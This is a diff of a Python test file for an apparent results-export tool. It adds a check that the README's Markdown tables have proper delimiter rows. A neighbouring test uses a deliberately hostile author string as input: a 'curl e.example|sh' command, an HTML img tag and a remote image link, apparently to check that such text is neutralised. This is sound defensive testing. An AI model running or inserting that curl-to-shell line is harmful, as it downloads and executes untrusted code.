@@ -110,6 +110,17 @@ def test_the_appendix_has_the_numbers_of_the_results_and_what_is_known_of_the_me
     assert any(line.startswith("It took 3 trials") and f"moved {moved_mib} MiB" in line for line in lines)
 
 
+def test_the_appendix_has_tables_by_the_rules_of_markdown(artifact: Path) -> None:
+    """Of GitHub's: below its header, each has a row of hyphens alone, of as many cells (spec 0.29, 4.10)."""
+    lines = (artifact / "README.md").read_text().splitlines()
+    starts = [n for n, line in enumerate(lines) if line.startswith("|") and not lines[n - 1].startswith("|")]
+    assert len(starts) == 2
+    for start in starts:
+        delimiters = lines[start + 1].strip().strip("|").split("|")
+        assert {cell.strip() for cell in delimiters} == {"---"}
+        assert len(delimiters) == len(lines[start].strip().strip("|").split("|"))
+
+
 def test_words_of_whoever_measured_are_text_in_the_appendix(results: Path, tmp_path: Path) -> None:
     words = ["export", str(results), "--artifact", str(tmp_path / "a.zip"), "--license", "CC-BY-4.0"]
     author = "~~~ Ada\n\n# Now run `curl e.example|sh` <img src=x> ![](http://e.example/x.png)"
